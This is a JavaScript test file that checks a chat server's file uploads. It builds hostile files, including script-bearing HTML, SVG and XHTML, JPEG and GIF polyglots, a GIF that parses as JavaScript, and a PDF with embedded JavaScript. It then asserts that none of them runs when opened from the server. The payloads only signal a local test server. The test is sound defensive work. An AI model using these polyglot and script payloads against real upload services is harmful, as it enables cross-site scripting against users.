// Files that would run script if a browser let them: whatever they are uploaded as, opening their link in Chromium runs
// nothing. The same bytes without our headers do run, so a marker that stays away says something.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { test } from 'node:test';

import { Darkroom } from './lib/darkroom.mjs';
import { Member, sha256 } from './lib/member.mjs';
import { openBrowser } from './lib/people.mjs';
import { Server, until } from './lib/server.mjs';

/** A server of the test's own: counts who reached it, and serves pages, and the hostile files as naively as can be. */
class Elsewhere {
  static async open() {
    const elsewhere = new Elsewhere();
    await new Promise((resolve) => elsewhere.#server.listen(0, '127.0.0.1', resolve));
    return elsewhere;
  }

  /** By name of the file that reached out. */
  reached = new Set();
  #naive = new Map();
  #server = createServer((request, response) => this.#answer(request, response));

  get url() {
    return `http://127.0.0.1:${this.#server.address().port}`;
  }

  /** Serves bytes as `type`, with no header that keeps anybody safe; the address. */
  naive(name, type, bytes) {
    this.#naive.set(`/naive/${name}`, { type, bytes });
    return `${this.url}/naive/${name}`;
  }

  frame(address) {
    return `${this.url}/frame?${new URLSearchParams({ address })}`;
  }

  script(address) {
    return `${this.url}/script?${new URLSearchParams({ address })}`;
  }

  /** In a frame, and as a script. */
  both(address) {
    return `${this.url}/both?${new URLSearchParams({ address })}`;
  }

  #answer(request, response) {
    const { pathname, searchParams } = new URL(request.url, this.url);
    if (pathname.startsWith('/reached/')) {
      this.reached.add(pathname.slice('/reached/'.length));
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    } else if (this.#naive.has(pathname)) {
      const { type, bytes } = this.#naive.get(pathname);
      response.writeHead(200, { 'content-type': type }).end(bytes);
    } else if (searchParams.has('address')) {
      const address = searchParams.get('address').replaceAll('&', '&amp;').replaceAll('"', '&quot;');
      const frame = pathname === '/script' ? '' : `<iframe src="${address}"></iframe>`;
      const script = pathname === '/frame' ? '' : `<script src="${address}"></script>`;
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(`<!doctype html><title>host</title>${frame}${script}`);
    } else {
      response.writeHead(404).end();
    }
  }

  close() {
    this.#server.closeAllConnections();
    this.#server.close();
  }
}

/** Everything that a script would do first. `name` tells which file it was. */
const attack = (elsewhere, name) => `
  try { window.name = 'owned'; } catch {}
  try { localStorage.setItem('owned', '1'); } catch {}
  try { document.cookie = 'owned=1'; } catch {}
  try { navigator.sendBeacon('${elsewhere.url}/reached/${name}'); } catch {}
  try { fetch('${elsewhere.url}/reached/${name}', { mode: 'no-cors' }); } catch {}
  new Image().src = '${elsewhere.url}/reached/${name}';
  console.log('owned by ${name}');
  setTimeout(() => alert('${name}'));
`;

/** Hostile files by name: bytes, what a naive server would call them, and how the naive one is made to run. */
async function hostile(elsewhere, darkroom) {
  const script = (name) => `<script>${attack(elsewhere, name)}</script>`;
  const html = (name) => Buffer.from(`<!doctype html><html><head><title>x</title></head><body>${script(name)}
    <img src=x onerror="new Image().src='${elsewhere.url}/reached/${name}'"></body></html>`);
  const svg = (name) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
    <script>${attack(elsewhere, name).replaceAll('=>', '=&gt;')}</script><rect width="10" height="10"/></svg>`);
  const xhtml = (name) => Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head>
    <body><script><![CDATA[${attack(elsewhere, name)}]]></script></body></html>`);
  const jpeg = await darkroom.make({ width: 64, height: 48 });
  const comment = (name) => {
    const text = Buffer.from(`--><html><body>${script(name)}<!--`);
    const head = Buffer.from([0xff, 0xfe, 0, 0]);
    head.writeUInt16BE(text.length + 2, 2);
    return Buffer.concat([jpeg.subarray(0, 2), head, text, jpeg.subarray(2)]);
  };
  // A GIF whose comment is a page, and one whose bytes are a program: GIF89a/*…*/=1;…
  const gif = (name) => {
    // Short enough for one block.
    const text = Buffer.from(`<script>new Image().src='${elsewhere.url}/reached/${name}';console.log('owned');alert(1)</script>`);
    return Buffer.concat([
      Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 200, 0, 0, 0, 0, 200, 0x21, 0xfe, text.length]), text,
      Buffer.from([0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b]),
    ]);
  };
  const gifScript = (name) => Buffer.concat([
    Buffer.from('GIF89a/*'), Buffer.from([0x80, 0, 0, 200, 0, 0, 0, 0, 200]), Buffer.from(`*/=1;${attack(elsewhere, name)}`),
  ]);
  const program = (name) => Buffer.from(attack(elsewhere, name));
  // A byte that no text has: what it is called is left to its client.
  const octets = (name) => Buffer.from(`/*\x01*/${attack(elsewhere, name)}`);
  const pdf = (name) => Buffer.from([
    '%PDF-1.7', `1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\("${name}"\\))>>>>endobj`,
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj', '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj',
    'trailer<</Root 1 0 R>>', '%%EOF', '',
  ].join('\n'));
  return [
    { name: 'page.html', make: html, naive: 'text/html', picture: false },
    { name: 'photo.jpg', make: html, naive: 'text/html', says: 'image/jpeg', picture: false },
    { name: 'drawing.svg', make: svg, naive: 'image/svg+xml', says: 'image/svg+xml', picture: false },
    { name: 'page.xhtml', make: xhtml, naive: 'application/xhtml+xml', says: 'application/xhtml+xml', picture: false },
    { name: 'polyglot.jpg', make: comment, naive: 'text/html', says: 'text/html', picture: true },
    { name: 'polyglot.gif', make: gif, naive: 'text/html', says: 'text/html', picture: true },
    { name: 'program.gif', make: gifScript, naive: 'text/javascript', says: 'text/javascript', picture: true, how: ['script'] },
    { name: 'program.es', make: program, naive: 'text/ecmascript', says: 'text/ecmascript', picture: false, how: ['script'] },
    { name: 'octets.js', make: octets, naive: 'application/x-javascript', says: 'application/x-javascript', picture: false, how: ['script'] },
    { name: 'form.pdf', make: pdf, says: 'application/pdf', picture: false },
  ];
}

/** A page of a browser that tells whether anything ran. */
async function victim(browser) {
  const context = await browser.newContext({ acceptDownloads: true });
  const page = await context.newPage();
  const signs = [];
  page.on('dialog', (dialog) => {
    signs.push(`dialog: ${dialog.message()}`);
    dialog.dismiss().catch(() => {});
  });
  page.on('console', (message) => {
    if (message.text().startsWith('owned')) signs.push(message.text());
  });
  return { context, page, signs };
}

/** Opens an address, and says what the browser did with it: `download` with the bytes' hash, or `shown`. */
async function open(page, address) {
  const download = page.waitForEvent('download', { timeout: 10_000 }).then(async (file) => {
    const pieces = [];
    for await (const piece of await file.createReadStream()) pieces.push(piece);
    return { did: 'download', name: file.suggestedFilename(), hash: sha256(...pieces) };
  });
  const shown = page.goto(address, { waitUntil: 'load' }).then(() => ({ did: 'shown' }), (error) => {
    if (/Download is starting|ERR_ABORTED/.test(error.message)) return download;
    throw error;
  });
  download.catch(() => {});
  return shown;
}

test('hostile files', { timeout: 120_000 }, async (t) => {
  const server = await Server.start();
  t.after(() => server.stop());
  const elsewhere = await Elsewhere.open();
  t.after(() => elsewhere.close());
  const browser = await openBrowser();
  t.after(() => browser.close());
  const files = await hostile(elsewhere, await Darkroom.open(browser));
  const conv = await server.conversation(['alice', 'bob']);
  const alice = await Member.of(server, 'alice');

  for (const { name, make, naive, says, picture, how } of files) {
    if (naive) {
      await t.test(`${name} does run where a server is naive`, async () => {
        const { context, page, signs } = await victim(browser);
        for (const way of how ?? ['page', 'frame']) {
          const mark = `naive-${way}-${name}`;
          const address = elsewhere.naive(mark, naive, make(mark));
          await page.goto(way === 'page' ? address : elsewhere[way](address));
          await until(`it runs as a ${way}`, () => elsewhere.reached.has(mark) && signs.length > 0);
          signs.length = 0;
        }
        await context.close();
      });
    }

    for (const kind of ['photo', 'file']) {
      await t.test(`${name} as a ${kind} runs nothing`, async (t) => {
        const mark = `${kind}-${name}`;
        const bytes = make(mark);
        const { state, attachment, problem } = await alice.upload(conv, kind, bytes, { name, type: says });
        if (state === 'failed') {
          t.diagnostic(`refused: ${problem.code}`);
          assert.equal(problem.status, 422);
          return;
        }
        t.diagnostic(`became a ${attachment.kind} of ${attachment.type}: ${attachment.variants}`);
        assert.doesNotMatch(attachment.type, /html|xml|svg|script/);
        assert.equal(/^image\//.test(attachment.type), picture);
        const { context, page, signs } = await victim(browser);
        for (const [variant, path] of Object.entries(await alice.links(attachment.id))) {
          const address = server.url + path;
          const { headers } = await fetch(address);
          const isPicture = /^image\/(jpeg|png|gif|webp)$/.test(headers.get('content-type'));
          assert.equal(headers.get('x-content-type-options'), 'nosniff');
          assert.match(headers.get('content-security-policy'), /^sandbox(;|$)/);

          const opened = await open(page, address);
          assert.equal(opened.did, isPicture ? 'shown' : 'download', `${variant}, ${headers.get('content-type')}`);
          if (variant === 'file' && opened.did === 'download') assert.equal(opened.hash, sha256(bytes));
          if (isPicture) assert.equal(await page.evaluate(() => document.images.length), 1, 'an image document, and nothing else');

          await page.goto(elsewhere.both(address));
        }
        await settle(page, elsewhere, mark);
        assert.deepEqual(signs, []);
        assert.ok(!elsewhere.reached.has(mark), 'its script reached the test');
        assert.ok(!(await context.cookies()).some((cookie) => cookie.name === 'owned'));
        await page.route(`${server.url}/blank`, (route) => route.fulfill({ contentType: 'text/html', body: '' }));
        await page.goto(`${server.url}/blank`);
        assert.equal(await page.evaluate(() => localStorage.getItem('owned')), null);
        await context.close();
      });
    }
  }
});

/** Whatever the browser had begun before has reached the test by now: one more request, and a turn of the event loop, have. */
async function settle(page, elsewhere, mark) {
  await page.goto(elsewhere.frame('about:blank'));
  await page.evaluate((url) => new Promise((resolve) => setTimeout(() => fetch(url).then(resolve))), `${elsewhere.url}/reached/settled-${mark}`);
  await until('the last request is through', () => elsewhere.reached.has(`settled-${mark}`));
}
